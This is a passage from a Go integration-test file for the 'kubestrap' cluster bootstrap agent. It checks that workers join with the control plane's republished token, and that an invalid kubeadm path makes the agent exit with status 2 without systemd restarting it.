	info, err := validJoinInfo(t)
	if err != nil {
		t.Fatalf("join.json once the control-plane agent is back and READY: %v", err)
	}
	if cp := agentState(t, "cp"); info.Generation != cp.JoinGeneration || info.TokenID() != cp.TokenID {
		t.Fatalf("join.json (gen %d, %s) is not the control plane's (gen %d, %s)",
			info.Generation, info.TokenID(), cp.JoinGeneration, cp.TokenID)
	}
	for _, w := range waiting {
		waitJoined(t, w, 3*time.Minute)
		// The generation a refused object claimed means nothing: the workers
		// join with what the control plane published after the attack.
		if st := agentState(t, w); st.JoinGeneration < info.Generation ||
			(st.JoinGeneration == info.Generation && st.TokenID != info.TokenID()) {
			t.Errorf("%s joined with generation %d token %s, want the control plane's republished generation %d (token %s) or later",
				w, st.JoinGeneration, st.TokenID, info.Generation, info.TokenID())
		}
		if n := countCalls(kubeadmCalls(t, w), "join"); n != 1 {
			t.Errorf("%s ran kubeadm join %d times, want 1", w, n)
		}
	}
}

// Scenario 7 (issue 12 (c)): a configuration that cannot work on this node
// (kubeadm.path is not an executable here): `kubestrap validate` and
// `kubestrap run` exit 2 naming the field, and systemd leaves the unit failed
// with exit status 2 instead of restarting it (the shipped unit's
// RestartPreventExitStatus=2): NRestarts stays 0. Once the file is fixed,
// `systemctl restart` brings the agent back; the node stays joined.
func TestScenario7BadConfigNotRestarted(t *testing.T) {
	const n = "w2"
	const good, bad = "path: /usr/bin/kubeadm", "path: /usr/bin/kubeadm-missing"
	edit := func(from, to string) {
		t.Helper()
		if out, err := inNode(n, "sed", "-i", "s#^  "+from+"$#  "+to+"#", "/etc/kubestrap/config.yaml"); err != nil {
			t.Fatalf("edit the config on %s: %v\n%s", n, err, out)
		}
		b, err := os.ReadFile(nodeFile(n, "/etc/kubestrap/config.yaml"))
		if err != nil || !strings.Contains(string(b), "  "+to+"\n") {
			t.Fatalf("config on %s not edited (%v):\n%s", n, err, b)
		}
	}
	exitCode := func(err error) int {
		var ee *exec.ExitError
		if errors.As(err, &ee) {
			return ee.ExitCode()
		}
		return 0
	}
	edit(good, bad)
	fixed := false
	t.Cleanup(func() {
		if !fixed {
			edit(bad, good)
			systemctl(t, n, "restart", "kubestrap")
		}
	})
	out, err := inNode(n, "kubestrap", "validate", "--config", "/etc/kubestrap/config.yaml")
	if exitCode(err) != 2 || !strings.Contains(out, "kubeadm.path") {
		t.Errorf("kubestrap validate: exit %d (%v), want 2 naming kubeadm.path:\n%s", exitCode(err), err, out)
	}

	joins := countCalls(kubeadmCalls(t, n), "join")
	before := unit(t, n)
	if out, err := script("node.sh", "systemctl", n, "restart", "kubestrap"); err == nil {
		t.Errorf("systemctl restart with the bad configuration succeeded:\n%s", out)
	}
	u := unit(t, n)
	if u.Active != "failed" || u.Result != "exit-code" || u.ExecMainCode != 1 || u.ExecMainStatus != 2 ||
		u.Starts != before.Starts+1 || u.NRestarts != 0 {
		t.Fatalf("unit after the restart: %s (result %s, code %d, status %d), %d processes (%d before), NRestarts %d; "+
			"want failed, exit-code, exited with 2, one more process, NRestarts 0",
			u.Active, u.Result, u.ExecMainCode, u.ExecMainStatus, u.Starts, before.Starts, u.NRestarts)
	}
	if !strings.Contains(agentLog(t, n), "kubeadm.path") {
		t.Errorf("the agent's error in the journal does not name kubeadm.path")
	}
	time.Sleep(3 * 5 * time.Second) // three RestartSec of the shipped unit
	if u := unit(t, n); u.Active != "failed" || u.Starts != before.Starts+1 || u.NRestarts != 0 {
		t.Errorf("unit restarted after exit 2: %s, %d processes, NRestarts %d", u.Active, u.Starts, u.NRestarts)
	}
	if out, _ := inNode(n, "systemctl", "status", "kubestrap", "--no-pager"); !strings.Contains(out, "status=2/INVALIDARGUMENT") {
		t.Errorf("systemctl status does not show status=2/INVALIDARGUMENT:\n%s", out)
	}

	edit(bad, good)
	fixed = true
	systemctl(t, n, "restart", "kubestrap") // returns at READY=1
	u = unit(t, n)
	if !u.Ready || u.Starts != before.Starts+2 {
		t.Errorf("agent not READY after the fix: %+v", u)
	}
	if j := countCalls(kubeadmCalls(t, n), "join"); j != joins {
		t.Errorf("kubeadm join ran %d more times; the node was joined", j-joins)
	}
	if nd := nodes(t)[n]; !nd.ready() {
		t.Errorf("Node %s not Ready", n)
	}
}

// parseLoggedTime reads a time the agent logged (a zap.Time field, written
// to the journal as Go prints a time.Time).
func parseLoggedTime(s string) time.Time {
	s, _, _ = strings.Cut(s, " m=")
	ts, _ := time.Parse("2006-01-02 15:04:05.999999999 -0700 MST", s)
	return ts
}
